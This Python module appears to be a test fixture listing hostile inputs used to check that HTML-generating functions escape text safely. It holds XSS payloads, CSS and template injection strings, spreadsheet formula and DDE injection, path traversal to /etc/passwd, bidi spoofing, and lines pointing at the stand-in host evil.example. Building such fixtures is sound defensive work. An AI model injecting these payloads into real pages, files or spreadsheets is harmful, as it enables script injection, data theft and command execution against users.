"""Text that attacks a page: every function that makes HTML must show it as mere text."""

MARKUP = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt src=https://evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror="alert(1)">',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)" x="',
    "`onclick=alert(1)`",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<a href="javascript:alert(1)">اقرأ</a>',
    "<a href='java\tscript:alert(1)'>x</a>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<form action="https://evil.example"><input name=q></form>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<object data="x.swf"></object><embed src="x.swf">',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<title>اسم آخر</title>",
    "</title><script>document.title='x'</script>",
    "</textarea><script>alert(1)</script>",
    "<!-- --><script>alert(1)</script> -->",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script><![CDATA[",
    "<?php echo 1; ?><%= 1 %>",
    "<p id=s0>",
    '<div class="nl-view" style="position:fixed;inset:0">',
    "</div></section></main></body></html>",
    "<bdo dir=rtl>evil</bdo></bdi>",
    "<",
    "<<<>>>&&&",
    "&",
    "a < b && c > d",
]

STYLES = [
    "</style><script>alert(1)</script>",
    "<style>*{display:none}</style>",
    '<p style="background:url(https://evil.example/x)">x</p>',
    "expression(alert(1))",
    "}body{background:url(https://evil.example/x)}/*",
    "@import 'https://evil.example/x.css';",
    "\\3c script\\3e",
]

ENTITIES = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "java&#x0A;script:alert(1)",
    "&quot; onclick=&quot;alert(1)",
    "&nbsp;&NoSuchEntity;&",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
]

TEMPLATES = [
    "{{7*7}}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% include '/etc/passwd' %}{% raw %}",
    "{# comment #}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "%(name)s %s {0} {name} {",
    "$x^2$ and \\(\\href{javascript:alert(1)}{x}\\)",
]

MARKDOWN = [
    "[اضغط](javascript:alert(1))",
    "![x](https://evil.example/x.gif)",
    "[x]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "# عنوان\n\n---\n\n> اقتباس",
    "**Finding.** Everything is false.",
    "| a | b |\n|---|---|\n| c | d |",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "~~x~~ `y` __z__ *w*",
    "\\[x\\](y)",
]

BIDI = [
    "access\u202egpj.exe",
    "\u202dقال الوزير\u202c نعم",
    "\u202aLRE \u202bRLE \u202cPDF",
    "\u2066LRI \u2067RLI \u2068FSI",
    "\u2069\u2069\u2069",
    "\u202e" * 200,
    "«وافق\u202e \u200fالمغرب» \u061c\u200e\u200f",
    "if (x\u2067 \u2066// \u2069\u2066) {",
]

ODD_CHARACTERS = [
    "\x00",
    "قبل\x00بعد",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\x01\x02\x07\x08\x0b\x0c\x0e\x1b[31m\x7f",
    "\x85\x9b\xa0\xad",
    "\ufeff\ufffe\uffff",
    "line\u2028separator\u2029",
    "a\r\nb\rc\td",
    "\u200b\u200c\u200d\u2060",
    "👩\u200d👩\u200d👧\u200d👦🇲🇦",
    "e" + "\u0301" * 300,
    "",
    " ",
]

LONG = [
    "ط" * 5_000,
    "http://" + "a" * 2_000 + ".example",
    "كتب_" * 500,
    "<b>" * 500,
    "&" * 1_000,
    "ـ" * 1_000,
]

FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://evil.example","اضغط")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "＝1+1",
]

PATHS = [
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "C:\\x",
    "con",
    "NUL",
    ".",
    "..",
    "a/b",
    "a%2fb",
    "a#b?c=d&e",
    "s0",
    "index",
]

# No file in UTF-8 holds it, JSON may: it cannot be written, so a page shows U+FFFD.
UNENCODABLE = "\ud800 alone"

ATTACKS: list[str] = [
    *MARKUP,
    *STYLES,
    *ENTITIES,
    *TEMPLATES,
    *MARKDOWN,
    *BIDI,
    *ODD_CHARACTERS,
    *LONG,
    *FORMULAS,
    *PATHS,
]
